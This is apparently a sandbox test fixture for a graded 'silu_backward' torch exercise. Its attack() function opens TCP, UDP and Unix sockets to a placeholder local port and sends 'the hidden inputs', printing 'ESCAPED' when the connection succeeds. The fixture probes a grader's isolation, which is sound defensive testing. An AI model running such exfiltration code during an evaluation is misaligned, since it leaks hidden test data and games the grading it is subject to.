# exercise: silu_backward
# backend: torch
# expect: full
# weak: skip: nothing on this rung would stop it
# ruff: noqa: F401
"""Sends what it saw to somebody else."""

import socket

import torch


def attack():
    kinds = ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM))
    for family, kind in kinds:
        try:
            sender = socket.socket(family, kind)
            sender.connect(("127.0.0.1", int("@PORT@")))
            sender.send(b"the hidden inputs")
            print("ESCAPED", kind)
        except OSError:
            pass
    try:
        sender = socket.socket(socket.AF_UNIX)
        sender.connect("\0graded-kernels-@PORT@")
        print("ESCAPED unix")
    except OSError:
        pass


# include: right
